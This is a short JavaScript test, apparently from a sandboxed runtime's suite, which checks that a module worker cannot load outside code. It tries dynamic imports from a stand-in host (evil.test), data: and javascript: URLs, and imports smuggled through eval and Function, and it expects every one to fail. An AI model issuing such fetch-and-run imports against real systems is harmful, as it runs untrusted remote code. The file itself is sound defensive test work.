// In a worker: code from elsewhere, by every way of loading it.
// prints: importScripts: undefined
// prints: /^imported: 0 of 7$/
// ends: quiet

if (typeof postMessage === 'function') {
  console.log('importScripts:', typeof importScripts);
  const addresses = ['http://evil.test/x.js', '//evil.test/x.js', 'data:text/javascript,console.log("WENT")', 'javascript:1', 'SITE', 'blob:null/0', 'about:blank'];
  let loaded = 0;
  for (const address of addresses)
    try {
      await import(address);
      loaded++;
    } catch {}
  for (const make of [() => eval('import("http://evil.test/y.js")'), () => Function('return import("http://evil.test/z.js")')()])
    try {
      await make();
      loaded++;
    } catch {}
  console.log(`imported: ${loaded} of ${addresses.length}`);
} else new Worker(import.meta.url, { type: 'module' });
